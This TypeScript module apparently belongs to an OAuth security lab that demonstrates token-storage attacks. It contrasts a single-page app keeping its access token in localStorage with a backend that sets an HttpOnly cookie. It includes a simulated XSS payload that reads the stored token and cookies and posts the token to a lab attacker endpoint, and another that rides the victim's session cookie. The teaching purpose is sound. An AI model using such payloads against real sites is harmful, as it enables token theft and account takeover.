import { attackerUrl } from '@/lib/attack-lab/attacker-log';
import { recordFetch } from '@/lib/http-trace/record';
import { authorizationCodeRequest } from '@/lib/oauth-client/token-requests';
import { ok } from '@/lib/oauth-client/result';
import { processTokenResponse, type TokenSet } from '@/lib/oauth-client/token-response';
import type { RealmDescriptor } from '@/lib/realms/descriptor';
import { networkFailure, type StepOutput } from '../step-output';

/**
 * The browser side of the token-storage attack: where each client architecture keeps Alice's token,
 * and the XSS payload. What is simulated: the injection itself (the lab runs the payload's code in this
 * page, as an injected script would run). What is real: the page's own localStorage and document.cookie
 * that the payload reads, the HttpOnly cookie the backend set, and every request.
 */

/** The key the single-page app keeps its token under, one per lab realm. */
export const storageKey = (realm: { id: string }) => `lab-spa-token:${realm.id}`;

/** The page's storage and cookies: the real ones in a browser, injectable for tests. */
export interface PageEnv {
  storage: Pick<Storage, 'getItem' | 'setItem' | 'removeItem' | 'key' | 'length'>;
  cookie: () => string;
}

export function browserPage(): PageEnv | undefined {
  if (typeof window === 'undefined' || typeof document === 'undefined') return undefined;
  return { storage: window.localStorage, cookie: () => document.cookie };
}

/** The SPA redeems the code itself (public client `spa`) and keeps the token where its scripts can reach it: localStorage. */
export async function spaRedeemsAndStores(
  step: string,
  env: PageEnv,
  realm: RealmDescriptor,
  tokenEndpoint: string,
  p: { code: string; redirectUri: string; verifier: string },
): Promise<StepOutput<TokenSet>> {
  try {
    const request = authorizationCodeRequest(
      tokenEndpoint,
      { clientId: 'spa', method: 'none' },
      { code: p.code, redirectUri: p.redirectUri, codeVerifier: p.verifier },
    );
    const { exchange, response, body } = await recordFetch(request, { step, from: 'client', to: 'as' });
    const tokens = processTokenResponse(response.status, body);
    if (!tokens.ok) return { step, exchanges: [exchange], result: tokens };
    env.storage.setItem(storageKey(realm), JSON.stringify({ access_token: tokens.value.access_token }));
    return {
      step,
      exchanges: [exchange],
      facts: [{ label: `localStorage["${storageKey(realm)}"]`, value: 'the access token (any script on the page can read it)' }],
      result: ok(tokens.value),
    };
  } catch (e) {
    return networkFailure(step, e);
  }
}

/** The page hands the one-time code to its backend, which redeems it and answers with an HttpOnly session cookie. */
export async function handToBackend(
  step: string,
  origin: string,
  realm: RealmDescriptor,
  p: { code: string; redirectUri: string; verifier: string },
): Promise<StepOutput<boolean>> {
  try {
    const body = new URLSearchParams({ code: p.code, code_verifier: p.verifier, redirect_uri: p.redirectUri });
    const request = new Request(`${origin}/bff/${encodeURIComponent(realm.id)}/session`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body,
      credentials: 'same-origin',
    });
    const { exchange, response, body: answer } = await recordFetch(request, { step, from: 'browser', to: 'client' });
    if (response.status !== 201) {
      return {
        step,
        exchanges: [exchange],
        result: {
          ok: false,
          error: {
            code: 'bff_refused',
            message: `The backend could not sign Alice in: HTTP ${response.status} ${answer.slice(0, 200)}`,
            where: step,
          },
        },
      };
    }
    return {
      step,
      exchanges: [exchange],
      facts: [
        {
          label: 'what the page received',
          value: `${answer} and an HttpOnly cookie (scripts see neither the cookie nor its Set-Cookie header)`,
        },
      ],
      result: ok(true),
    };
  } catch (e) {
    return networkFailure(step, e);
  }
}

export interface PayloadFind {
  /** A token the payload found and sent to Mallory's site. */
  token?: string;
  where?: string;
}

/**
 * The XSS payload: reads what the app keeps in localStorage for this realm and every cookie scripts
 * can see (document.cookie), and posts any token to Mallory's site. The lab's own player state (in
 * sessionStorage) is not the app's and is left alone.
 */
export async function xssPayload(step: string, env: PageEnv, origin: string, realm: RealmDescriptor): Promise<StepOutput<PayloadFind>> {
  const stored = env.storage.getItem(storageKey(realm));
  let token: string | undefined;
  try {
    const parsed: unknown = stored ? JSON.parse(stored) : undefined;
    const t = (parsed as { access_token?: unknown } | undefined)?.access_token;
    token = typeof t === 'string' && t ? t.slice(0, 8192) : undefined;
  } catch {
    token = undefined;
  }
  const cookies = env.cookie();
  const facts = [
    { label: `localStorage["${storageKey(realm)}"]`, value: token ? `${token.slice(0, 24)}…` : '(empty)' },
    { label: 'document.cookie', value: cookies ? cookies.slice(0, 200) : '(empty: an HttpOnly cookie is not shown to scripts)' },
  ];
  if (!token) return { step, exchanges: [], facts, result: ok({}) };
  try {
    const request = new Request(`${origin}${attackerUrl(realm, 'xss')}`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ access_token: token, source: 'localStorage' }),
    });
    const { exchange } = await recordFetch(request, { step, from: 'browser', to: 'attacker' });
    return { step, exchanges: [exchange], facts, result: ok({ token, where: 'localStorage' }) };
  } catch (e) {
    return networkFailure(step, e);
  }
}

/** What an HttpOnly cookie does not stop: the payload asks the backend for the photos, and the browser attaches Alice's cookie. */
export async function payloadRidesSession(
  step: string,
  origin: string,
  realm: RealmDescriptor,
): Promise<StepOutput<{ status: number; owner?: string }>> {
  try {
    const request = new Request(`${origin}/bff/${encodeURIComponent(realm.id)}/photos`, {
      headers: { accept: 'application/json' },
      credentials: 'same-origin',
    });
    const { exchange, response, body } = await recordFetch(request, { step, from: 'browser', to: 'client' });
    let owner: string | undefined;
    try {
      const o = (JSON.parse(body) as { owner?: unknown }).owner;
      owner = typeof o === 'string' ? o : undefined;
    } catch {
      owner = undefined;
    }
    return {
      step,
      exchanges: [exchange],
      facts: [{ label: 'the backend answered', value: `HTTP ${response.status}${owner ? `, the photos of ${owner}` : ''}` }],
      result: ok({ status: response.status, owner }),
    };
  } catch (e) {
    return networkFailure(step, e);
  }
}
